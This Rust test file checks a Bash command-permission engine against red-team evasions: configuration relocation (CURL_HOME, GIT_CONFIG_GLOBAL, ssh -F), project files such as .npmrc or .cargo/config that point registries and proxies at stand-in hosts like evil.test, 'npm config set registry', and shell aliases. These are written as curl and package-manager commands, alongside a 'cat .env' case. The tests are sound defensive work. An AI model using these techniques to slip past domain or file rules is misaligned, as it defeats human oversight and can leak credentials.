//! Sixth network red-team round, causes 3 and 8: a host the command does not
//! write, which the program (or the shell) finds by itself.
//!
//! - Cause 3: a configuration file the program reads with a host in it. A
//!   variable or an option that moves where the program looks for its
//!   configuration (`CURL_HOME=. curl`, `HOME=. wget`, `PIP_CONFIG_FILE`,
//!   `GIT_CONFIG_GLOBAL`, `git -c include.path=`, `ssh -F`) makes the host
//!   known only at run time (asked where a domain deny or ask rule exists);
//!   a file of the project the program reads by itself (npm's `.npmrc` in
//!   the working directory or above it, `.yarnrc`, `.yarnrc.yml`, cargo's
//!   `.cargo/config.toml`, git's `http.proxy`) is read, and the hosts it
//!   names meet the domain rules; `npm config set registry HOST` names HOST.
//! - Cause 8: an alias's value is read as a command where it is defined, and
//!   a later word with its name, in a command's place, as that command
//!   followed by the words after it.
//!
//! The same calls with no domain rule stay allowed, and so do the harmless
//! forms beside them.

use tack_policy::Verdict::{Allow, Ask, Deny};

use crate::support::{Case, case, case_in, run, run_with_files};

const B: &str = "Bash";

/// The red team's rules.
const NET: &[&str] = &[
    "allow Bash",
    "deny WebFetch(domain:127.0.0.2)",
    "deny WebFetch(domain:evil.test)",
    "deny WebFetch(domain:*.evil.test)",
];
/// The same in acceptEdits, where a redirection into the project is allowed.
const NET_EDITS: &[&str] = &[
    "allow Bash",
    "mode acceptEdits",
    "deny WebFetch(domain:127.0.0.2)",
    "deny WebFetch(domain:evil.test)",
    "deny WebFetch(domain:*.evil.test)",
];
/// An ask rule for a domain instead of a deny.
const NET_ASK: &[&str] = &["allow Bash", "ask WebFetch(domain:evil.test)"];
/// No domain rule: hosts known only at run time do not matter.
const NONE: &[&str] = &["allow Bash"];
/// A Bash deny rule and a domain one.
const RM: &[&str] = &[
    "allow Bash",
    "deny Bash(rm *)",
    "deny WebFetch(domain:evil.test)",
];

/// The project's files: configuration files holding hosts, as the red team
/// wrote them.
const FILES: &[(&str, &str, bool)] = &[
    ("a.txt", "x", false),
    (
        "npmproj/.npmrc",
        "registry=http://127.0.0.2:8099/\n//127.0.0.2:8099/:_authToken=${NPM_TOKEN}\n",
        false,
    ),
    ("npmproj/sub/package.json", "{}", false),
    (
        "scoped/.npmrc",
        "@s:registry=http://evil.test:8099/\n",
        false,
    ),
    ("proxied/.npmrc", "https-proxy=127.0.0.2:8099\n", false),
    (
        "yarn1/.yarnrc",
        "registry \"http://127.0.0.2:8099/\"\n",
        false,
    ),
    (
        "berry/.yarnrc.yml",
        "npmRegistryServer: \"http://evil.test:8099\"\n",
        false,
    ),
    (
        "berryscope/.yarnrc.yml",
        "npmScopes:\n  s:\n    npmRegistryServer: \"https://r.evil.test/\"\n",
        false,
    ),
    (
        "bunproj/bunfig.toml",
        "[install]\nregistry = \"http://127.0.0.2:8099/\"\n",
        false,
    ),
    ("envreg/.npmrc", "registry=${REGISTRY}\n", false),
    (
        "okreg/.npmrc",
        "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=${NPM_TOKEN}\nsave-exact=true\n",
        false,
    ),
    ("askreg/.npmrc", "registry=https://evil.test/\n", false),
    // A directory where the file should be: it cannot be read.
    ("unreadable/.npmrc/x", "", false),
    (
        "cargoproj/.cargo/config.toml",
        "[source.crates-io]\nreplace-with = \"m\"\n[source.m]\nregistry = \"sparse+http://127.0.0.2:8099/\"\n",
        false,
    ),
    ("cargoproj/src/lib.rs", "", false),
    (
        "cargoproxy/.cargo/config",
        "[http]\nproxy = \"evil.test:8099\"\n",
        false,
    ),
    (
        "cargook/.cargo/config.toml",
        "[build]\njobs = 2\n[registries.ok]\nindex = \"sparse+https://ok.test/\"\n",
        false,
    ),
    (
        "pip.conf",
        "[global]\nindex-url = http://127.0.0.2:8099/simple\n",
        false,
    ),
    (
        "gc",
        "[url \"http://127.0.0.2:8099/\"]\n\tinsteadOf = http://127.0.0.3:8099/\n",
        false,
    ),
    ("sshcfg", "Host h\n  HostName 127.0.0.2\n", false),
    (
        "gitproxy/.git/config",
        "[http]\n\tproxy = http://127.0.0.2:8099\n[remote \"o\"]\n\turl = https://ok.test/r.git\n",
        false,
    ),
    ("gitproxy/.git/HEAD", "ref: refs/heads/main\n", false),
    (
        "gitremoteproxy/.git/config",
        "[remote \"o\"]\n\turl = https://ok.test/r.git\n\tproxy = evil.test:3128\n",
        false,
    ),
    ("gitremoteproxy/.git/HEAD", "ref: refs/heads/main\n", false),
    (
        "gitinclude/.git/config",
        "[include]\n\tpath = ../../gc\n[remote \"o\"]\n\turl = http://127.0.0.3:8099/r\n",
        false,
    ),
    ("gitinclude/.git/HEAD", "ref: refs/heads/main\n", false),
    (
        "gitok/.git/config",
        "[remote \"o\"]\n\turl = https://ok.test/r.git\n",
        false,
    ),
    ("gitok/.git/HEAD", "ref: refs/heads/main\n", false),
    (
        "hgproj/.hg/hgrc",
        "[paths]\ndefault = https://evil.test/repo\n",
        false,
    ),
    (
        "mvnproj/pom.xml",
        "<project>\n<repositories><repository>\n<url>http://127.0.0.2:8099/m2</url>\n</repository></repositories>\n</project>\n",
        false,
    ),
    (
        "gradleproj/gradle/wrapper/gradle-wrapper.properties",
        "distributionUrl=https\\://evil.test/gradle-8-bin.zip\n",
        false,
    ),
    (
        "gradleproj/gradlew",
        "#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar \"$@\"\n",
        true,
    ),
    (
        "venvproj/.venv/pip.conf",
        "[global]\nindex-url = http://127.0.0.2:8099/simple\n",
        false,
    ),
    (
        "reqs/requirements.txt",
        "requests>=2\n-r more/dev.txt\n",
        false,
    ),
    (
        "reqs/more/dev.txt",
        "--extra-index-url http://127.0.0.2:8099/simple\npytest\n",
        false,
    ),
    ("reqs/ok.txt", "requests>=2\n", false),
    (
        "pyproj/pyproject.toml",
        "[project]\nname = \"x\"\ndependencies = [\"y @ https://evil.test/y-1.0-py3-none-any.whl\"]\n",
        false,
    ),
    (
        "denoproj/deno.json",
        "{\"imports\": {\"x\": \"https://evil.test/x.ts\"}}\n",
        false,
    ),
    (
        "uvproj/uv.toml",
        "index-url = \"http://127.0.0.2:8099/simple\"\n",
        false,
    ),
    (
        "uvindex/pyproject.toml",
        "[project]\nname = \"x\"\n[[tool.uv.index]]\nname = \"e\"\nurl = \"https://evil.test/simple\"\n",
        false,
    ),
    (
        "uvok/pyproject.toml",
        "[project]\nname = \"x\"\ndependencies = [\"requests\"]\n",
        false,
    ),
];

// Cause 3 (a): a variable or option that moves where the program finds its
// configuration: the host is known only at run time.

const RELOCATED: &[Case] = &[
    case(NET, B, "CURL_HOME=. curl -s", Ask),
    case(NET, B, "HOME=. curl -s", Ask),
    case(NET, B, "XDG_CONFIG_HOME=. curl -s", Ask),
    case(NET, B, "env CURL_HOME=. curl -s", Ask),
    case(NET, B, "export CURL_HOME=.; curl -s", Ask),
    case(
        NET,
        B,
        "export CURL_HOME=. && curl -s https://ok.test/",
        Ask,
    ),
    case(NET, B, "CURL_HOME=.; curl -s", Ask),
    case(NET, B, "declare -x CURL_HOME=.; curl -s", Ask),
    case(NET, B, "CURL_HOME=. timeout 5 curl -s", Ask),
    case(NET, B, "CURL_HOME=. bash -c 'curl -s'", Ask),
    case(
        NET_EDITS,
        B,
        "echo url=127.0.0.2:8099/x > .curlrc; CURL_HOME=. curl -s",
        Ask,
    ),
    case(
        NET_EDITS,
        B,
        "echo proxy=127.0.0.2:8099 > .curlrc && HOME=. curl -s http://127.0.0.3:8099/",
        // The `host:port` written names the host (ninth round).
        Deny,
    ),
    case(
        NET_EDITS,
        B,
        "echo proxy=$P > .curlrc && HOME=. curl -s http://127.0.0.3:8099/",
        Ask,
    ),
    case(
        NET_EDITS,
        B,
        "echo http_proxy=127.0.0.2:8099 > .wgetrc; HOME=. wget -qO- http://127.0.0.3:8099/",
        // The `host:port` written names the host (ninth round).
        Deny,
    ),
    case(
        NET_EDITS,
        B,
        "echo http_proxy=$P > .wgetrc; HOME=. wget -qO- http://127.0.0.3:8099/",
        Ask,
    ),
    case(
        NET_EDITS,
        B,
        "echo http_proxy=127.0.0.2:8099 > rc; WGETRC=rc wget -qO- http://127.0.0.3:8099/",
        // The `host:port` written names the host (ninth round).
        Deny,
    ),
    case(
        NET_EDITS,
        B,
        "echo http_proxy=$P > rc; WGETRC=rc wget -qO- http://127.0.0.3:8099/",
        Ask,
    ),
    case(NET, B, "PIP_CONFIG_FILE=pip.conf pip download xyzpkg", Ask),
    case(NET, B, "PIP_CONFIG_FILE=pip.conf pip3 install xyzpkg", Ask),
    case(
        NET,
        B,
        "GIT_CONFIG_GLOBAL=gc git ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(
        NET,
        B,
        "GIT_CONFIG=gc git ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(
        NET,
        B,
        "GIT_CONFIG_SYSTEM=gc git ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(
        NET,
        B,
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=include.path GIT_CONFIG_VALUE_0=gc git fetch",
        Ask,
    ),
    case(
        NET,
        B,
        "git -c include.path=../gc ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(
        NET,
        B,
        "git -c includeIf.onbranch:main.path=gc ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(
        NET,
        B,
        "git config include.path ../gc && git ls-remote http://127.0.0.3:8099/r",
        Ask,
    ),
    case(NET, B, "ssh -F sshcfg h true", Ask),
    case(NET, B, "ssh -Fsshcfg h", Ask),
    case(NET, B, "ssh -qF sshcfg h", Ask),
    case(NET, B, "scp -F sshcfg a.txt h:", Ask),
    case(NET, B, "sftp -F sshcfg h", Ask),
    case(NET, B, "rsync -e 'ssh -F sshcfg' a.txt h:", Ask),
    case(NET, B, "mosh --ssh='ssh -F sshcfg' h", Ask),
    case(
        NET,
        B,
        "git -c core.sshCommand='ssh -F sshcfg' fetch git@h:r",
        Ask,
    ),
    case(NET, B, "NPM_CONFIG_USERCONFIG=rc npm view xyzpkg", Ask),
    case(NET, B, "npm_config_userconfig=rc npm view xyzpkg", Ask),
    case(NET, B, "npm view xyzpkg --userconfig rc", Ask),
    case(NET, B, "CARGO_HOME=. cargo search x", Ask),
    case(NET, B, "cargo search x --config ./c.toml", Ask),
    case(NET, B, "cargo --config=c.toml fetch", Ask),
    case(NET, B, "cargo search x --config 'net.retry=2'", Allow),
    case(NET, B, "WGETRC=rc wget -qO- https://ok.test/", Ask),
    case(NET, B, "wget --config=rc https://ok.test/", Ask),
    case(NET, B, "curl --config rc", Ask),
    case(NET, B, "PGSERVICEFILE=./s psql service=x", Ask),
    case(NET, B, "KUBECONFIG=./k kubectl get pods", Ask),
    case(NET, B, "DOCKER_CONFIG=. docker pull img", Ask),
    case(NET, B, "GOENV=./e go get example.org/x", Ask),
    case(NET, B, "HOSTALIASES=./h curl -s http://intranet/", Ask),
    case(NET_ASK, B, "CURL_HOME=. curl -s", Ask),
    case(
        NET,
        B,
        "PIP_CONFIG_FILE=pip.conf python3 -m pip download xyzpkg",
        Ask,
    ),
    case(
        NET,
        B,
        "MAVEN_OPTS=-Dhttps.proxyHost=evil.test mvn install",
        // The JVM's options in the variable are read (tenth round): the
        // proxy is known, not only its place moved.
        Deny,
    ),
    case(NET, B, "LOCALDOMAIN=evil.test curl http://www/", Ask),
    case(
        NET,
        B,
        "GIT_SSH_COMMAND='ssh -F sshcfg' git fetch git@h:r",
        Ask,
    ),
    case(NET, B, "TF_CLI_CONFIG_FILE=./t terraform init", Ask),
    case(NET, B, "HOME=. npm ci", Ask),
    case(NET, B, "f() { curl -s; }; HOME=. f", Ask),
    // A program whose name is computed at run time may be any of them.
    case(NET, B, "env \"$X\" curl evil.test", Ask),
    case(NET, B, "$C evil.test", Ask),
    // Not a network program's configuration, or another program's.
    case(NET, B, "HOME=. ls", Allow),
    case(NET, B, "CURL_HOME=. ls; curl -s https://ok.test/", Allow),
    case(NET, B, "WGETRC=rc curl -s https://ok.test/", Allow),
    case(NET, B, "curl https://ok.test/", Allow),
    case(NET, B, "ssh ok.test uptime", Allow),
    case(NET, B, "ssh -F /dev/null ok.test uptime", Allow),
    case(NET, B, "ssh -F none ok.test uptime", Allow),
    case(
        NET,
        B,
        "git -c user.name=x ls-remote https://ok.test/r",
        Allow,
    ),
    case(
        NET,
        B,
        "PIP_CONFIG_FILE=pip.conf python3 -c 'print(1)'",
        Allow,
    ),
    case(NET, B, "f() { curl -s https://ok.test/; }; f", Allow),
    // No domain rule: nothing to check the host against.
    case(NONE, B, "CURL_HOME=. curl -s", Allow),
    case(NONE, B, "HOME=. curl -s", Allow),
    case(NONE, B, "export CURL_HOME=.; curl -s", Allow),
    case(
        NONE,
        B,
        "PIP_CONFIG_FILE=pip.conf pip download xyzpkg",
        Allow,
    ),
    case(
        NONE,
        B,
        "GIT_CONFIG_GLOBAL=gc git ls-remote http://127.0.0.3:8099/r",
        Allow,
    ),
    case(NONE, B, "ssh -F sshcfg h true", Allow),
];

#[test]
fn a_variable_or_option_that_moves_a_programs_configuration_hides_its_host() {
    run_with_files(FILES, RELOCATED);
}

// Cause 3 (b): a file of the project the program reads by itself: its
// hosts meet the rules.

const PROJECT_FILES: &[Case] = &[
    case_in("npmproj", NET, B, "npm view xyzpkg", Deny),
    case_in("npmproj", NET, B, "npm install xyzpkg", Deny),
    case_in("npmproj", NET, B, "npm ping", Deny),
    case_in("npmproj", NET, B, "npx cowsay hi", Deny),
    case_in("npmproj/sub", NET, B, "npm install", Deny),
    case_in("npmproj", NET, B, "pnpm add xyzpkg", Deny),
    case_in("npmproj", NET, B, "yarn add xyzpkg", Deny),
    case(NET, B, "cd npmproj && npm view xyzpkg", Deny),
    case(NET, B, "npm --prefix npmproj install", Deny),
    case_in("scoped", NET, B, "npm view @s/x", Deny),
    case_in("proxied", NET, B, "npm view xyzpkg", Deny),
    case_in("yarn1", NET, B, "yarn add xyzpkg", Deny),
    case_in("berry", NET, B, "yarn add xyzpkg", Deny),
    case_in("berryscope", NET, B, "yarn add @s/x", Deny),
    case_in("bunproj", NET, B, "bun add xyzpkg", Deny),
    case_in("askreg", NET_ASK, B, "npm view xyzpkg", Ask),
    case_in("envreg", NET, B, "npm view xyzpkg", Ask),
    case_in("unreadable", NET, B, "npm view xyzpkg", Ask),
    case_in("cargoproj", NET, B, "cargo fetch", Deny),
    case_in("cargoproj", NET, B, "cargo build", Deny),
    case_in("cargoproj", NET, B, "cd src && cargo test", Deny),
    case_in("cargoproj/src", NET, B, "cargo search x", Deny),
    case_in("cargoproxy", NET, B, "cargo update", Deny),
    case_in("gitproxy", NET, B, "git fetch o", Deny),
    case_in("gitproxy", NET, B, "git pull", Deny),
    case_in("gitremoteproxy", NET, B, "git fetch o", Deny),
    case_in("gitinclude", NET, B, "git fetch o", Deny),
    case_in("hgproj", NET, B, "hg pull", Deny),
    case_in("mvnproj", NET, B, "mvn install", Deny),
    case_in("gradleproj", NET, B, "./gradlew build", Deny),
    case_in("venvproj", NET, B, ".venv/bin/pip install xyzpkg", Deny),
    case_in(
        "venvproj",
        NET,
        B,
        ".venv/bin/python -m pip install xyzpkg",
        Deny,
    ),
    case_in("venvproj", NET, B, "pip install xyzpkg", Allow),
    case_in("reqs", NET, B, "pip install -r requirements.txt", Deny),
    case(NET, B, "pip install -r reqs/requirements.txt", Deny),
    case(NET, B, "pip3 install --requirement=reqs/more/dev.txt", Deny),
    case(NET, B, "uv pip install -r reqs/requirements.txt", Deny),
    case(NET, B, "pip install -r \"$R\"", Ask),
    case(NET, B, "pip install -r reqs/ok.txt", Allow),
    case(NET, B, "pip install -e pyproj", Deny),
    case(NET, B, "pip install pyproj", Allow),
    case(NET, B, "pip install -e ./pyproj", Deny),
    case_in("pyproj", NET, B, "pip install .", Deny),
    case_in("denoproj", NET, B, "deno install", Deny),
    case_in("uvproj", NET, B, "uv sync", Deny),
    case_in("uvindex", NET, B, "uv lock", Deny),
    case_in("uvok", NET, B, "uv sync", Allow),
    case(NET, B, "uv sync", Allow),
    // A file written earlier in the same command is not the one read now.
    case(
        NET_EDITS,
        B,
        "echo registry=http://127.0.0.2:8099/ > .npmrc; npm view xyzpkg",
        Deny,
    ),
    case(NET_EDITS, B, "cat a.txt > .npmrc; npm view xyzpkg", Ask),
    case(NET_EDITS, B, "cat a.txt > \"$F\"; npm view xyzpkg", Ask),
    case(
        NET_EDITS,
        B,
        "git clone https://ok.test/r x && cd x && npm install",
        Ask,
    ),
    case(NET_EDITS, B, "tar -xf a.tar && npm install", Ask),
    case(
        NET_EDITS,
        B,
        "mkdir -p .cargo && echo '[http]' > .cargo/config.toml && cargo fetch",
        Ask,
    ),
    // Harmless configuration, or none.
    case(NET, B, "npm view xyzpkg", Allow),
    case(NET, B, "npm install", Allow),
    case(NET, B, "yarn install", Allow),
    case_in("okreg", NET, B, "npm view xyzpkg", Allow),
    case_in("okreg", NET, B, "npm ci", Allow),
    case(NET, B, "cargo build --release", Allow),
    case_in("cargook", NET, B, "cargo build", Allow),
    case_in("gitok", NET, B, "git fetch o", Allow),
    case(NET, B, "ls npmproj", Allow),
    case_in("npmproj", NET, B, "ls", Allow),
    // No domain rule.
    case_in("npmproj", NONE, B, "npm view xyzpkg", Allow),
    case_in("unreadable", NONE, B, "npm view xyzpkg", Allow),
    case_in("cargoproj", NONE, B, "cargo fetch", Allow),
    case_in("gitproxy", NONE, B, "git fetch o", Allow),
];

#[test]
fn a_project_file_a_program_reads_by_itself_names_hosts_that_meet_the_rules() {
    run_with_files(FILES, PROJECT_FILES);
}

// Cause 3: a command that writes a host into a program's configuration for
// later (`npm config set registry …`) names that host.

const CONFIG_SET: &[Case] = &[
    case(
        NET,
        B,
        r"npm config set registry 'http:\\127.0.0.2:8099/'",
        Deny,
    ),
    case(NET, B, r"npm set registry 'http:\\127.0.0.2:8099/'", Deny),
    case(NET, B, "npm config set registry=127.0.0.2:8099", Deny),
    case(NET, B, "npm config set proxy http://evil.test:3128", Deny),
    case(
        NET,
        B,
        "npm config set @s:registry https://r.evil.test/",
        Deny,
    ),
    case(
        NET,
        B,
        "npm config set --location=project registry 127.0.0.2:8099",
        Deny,
    ),
    case(
        NET,
        B,
        "pnpm config set registry http://127.0.0.2:8099/",
        Deny,
    ),
    case(
        NET,
        B,
        "yarn config set registry http://127.0.0.2:8099/",
        Deny,
    ),
    case(
        NET,
        B,
        "yarn config set npmRegistryServer http://evil.test/",
        Deny,
    ),
    case(
        NET,
        B,
        "pip config set global.index-url http://127.0.0.2:8099/simple",
        Deny,
    ),
    case(NET, B, "pip config set global.proxy evil.test:3128", Deny),
    case(NET, B, "go env -w GOPROXY=http://evil.test/", Deny),
    case(NET, B, "npm config set registry \"$R\"", Ask),
    case(NET, B, "npm config set userconfig ./rc", Ask),
    // Settings that name no host.
    case(NET, B, "npm config set save-exact true", Allow),
    case(NET, B, "npm config get registry", Allow),
    case(
        NET,
        B,
        "npm config set registry https://registry.npmjs.org/",
        Allow,
    ),
    case(NET, B, "pip config set global.timeout 60", Allow),
    case(
        NONE,
        B,
        "npm config set registry http://127.0.0.2:8099/",
        Allow,
    ),
];

#[test]
fn a_command_that_writes_a_host_into_a_programs_configuration_names_it() {
    run(CONFIG_SET);
}

// Cause 8: shell aliases.

const ALIASES: &[Case] = &[
    case(
        NET,
        B,
        "shopt -s expand_aliases\nalias c='curl 127.0.0.2:8099'\nc",
        Deny,
    ),
    case(
        NET,
        B,
        "shopt -s expand_aliases\nalias c=curl\nc 127.0.0.2:8099",
        Deny,
    ),
    // Whether or not expand_aliases is set.
    case(NET, B, "alias c=curl\nc 127.0.0.2:8099", Deny),
    case(NET, B, "alias c='curl -s'\nc evil.test", Deny),
    case(NET, B, "alias a=ls c=curl\nc evil.test", Deny),
    case(NET, B, "alias -- c=curl\nc evil.test", Deny),
    // A value ending in a blank: the next word is an alias too.
    case(NET, B, "alias t='timeout 5 ' c=curl\nt c evil.test", Deny),
    case(
        NET,
        B,
        "alias t='timeout 5 '\nalias c='curl evil.test'\nt c",
        Deny,
    ),
    // Where bash reads the name again: `$(…)`, `eval`, a function's body.
    case(NET, B, "alias c=curl\necho $(c evil.test)", Deny),
    case(NET, B, "alias c=curl\neval c evil.test", Deny),
    case(NET, B, "alias c=curl\nf() { c evil.test; }", Deny),
    case(NET, B, "alias c=curl\nif true; then c evil.test; fi", Deny),
    case(NET, B, "alias c='env '\nc curl evil.test", Deny),
    // An alias of an alias, and one that names itself.
    case(NET, B, "alias c=d d='curl evil.test'\nc", Deny),
    case(NET, B, "alias curl='curl -s'\ncurl evil.test", Deny),
    case(NET, B, "alias a=b b=a\na evil.test", Allow),
    // `unalias` may not run before the use (a branch, a loop): kept.
    case(NET, B, "alias c=curl\nunalias c\nc evil.test", Deny),
    // A value computed at run time, or one that is no whole command.
    case(NET, B, "alias c=\"curl $H\"\nc", Ask),
    case(NET, B, "alias \"$A\"\nc", Ask),
    case(
        NET,
        B,
        "alias L='while true; do'\nL curl evil.test; done",
        Ask,
    ),
    case(NET, B, "BASH_ALIASES[c]='curl evil.test'\nc", Ask),
    // The Bash rules meet the command an alias stands for.
    case(RM, B, "alias c=rm\nc a.txt", Deny),
    case(RM, B, "alias c='rm a.txt'\nc", Deny),
    case(RM, B, "alias c='rm a.txt'", Deny),
    // Harmless aliases stay allowed.
    case(NET, B, "alias ll='ls -l'\nll", Allow),
    case(RM, B, "alias ll='ls -l'\nll src", Allow),
    case(NET, B, "alias c=curl\nc https://ok.test/", Allow),
    case(NET, B, "alias", Allow),
    case(NET, B, "alias ll", Allow),
    case(NONE, B, "alias c='curl 127.0.0.2:8099'\nc", Allow),
];

#[test]
fn an_alias_is_the_command_it_stands_for() {
    run_with_files(FILES, ALIASES);
}

/// bash runs the complete commands on the lines before one it cannot read:
/// `cat .env` before a stray `)` reads `.env`.
#[test]
fn the_lines_before_a_syntax_error_run() {
    use crate::support::{case, run};
    const READ: &[&str] = &["allow Bash", "deny Read(./.env)"];
    const RM: &[&str] = &["allow Bash", "deny Bash(rm *)"];
    run(&[
        case(READ, "Bash", "cat .env\n)", Deny),
        case(READ, "Bash", "echo a; cat .env\nif then", Deny),
        case(RM, "Bash", "rm x\n)", Deny),
        // What the parser rejects bash may still run (`select`, tenth
        // round): what the text reads is unknown.
        case(READ, "Bash", "cat src/main.rs\n)", Ask),
    ]);
}
